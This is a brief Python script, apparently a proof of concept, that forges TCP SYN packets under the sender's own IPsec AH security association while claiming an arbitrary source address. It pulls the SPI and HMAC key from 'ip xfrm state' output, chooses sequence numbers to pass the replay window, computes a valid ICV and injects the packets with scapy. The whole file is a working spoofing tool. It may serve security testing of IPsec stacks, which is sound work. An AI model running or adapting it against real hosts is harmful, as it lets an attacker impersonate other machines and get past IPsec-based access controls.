#!/usr/bin/python3
"""Sends TCP SYNs under one's own outbound AH SA, with any source address and a correct ICV.

  forge.py STATES MAC OWN TO FROM PORT COUNT

STATES is the output of `ip xfrm state`: the SA from OWN to TO is used for packets that claim to
come from FROM, sent to the link address MAC.
"""

import hashlib
import hmac
import re
import sys

from scapy.all import AH, IP, TCP, Ether, Raw, raw, sendp
from scapy.layers.ipsec import zero_mutable_fields

states, mac, own, to, claimed, port, count = sys.argv[1:]
pattern = (rf"src {re.escape(own)} dst {re.escape(to)}\n\s+proto ah spi (0x\w+).*?"
           r"auth-trunc hmac\(sha256\) 0x(\w+) 128")
spi, key = re.search(pattern, open(states).read(), re.S).groups()
# Above all that the kernel sent so far, within the replay window, and each once.
first = 500 + int(port) % 251 + (0 if claimed == own else 200)
for number in range(int(count)):
    segment = IP(src=claimed, dst=to) / TCP(sport=40000 + number, dport=int(port), seq=number)
    packet = IP(src=claimed, dst=to, proto=51) / AH(
        nh=6, payloadlen=5, spi=int(spi, 16), seq=first + number, icv=bytes(16))
    packet /= Raw(raw(segment)[20:])
    packet = IP(raw(packet))
    covered = raw(zero_mutable_fields(packet.copy(), sending=True)) + bytes(4)
    packet[AH].icv = hmac.new(bytes.fromhex(key), covered, hashlib.sha256).digest()[:16]
    sendp(Ether(dst=mac) / packet, iface="eth0", verbose=False)
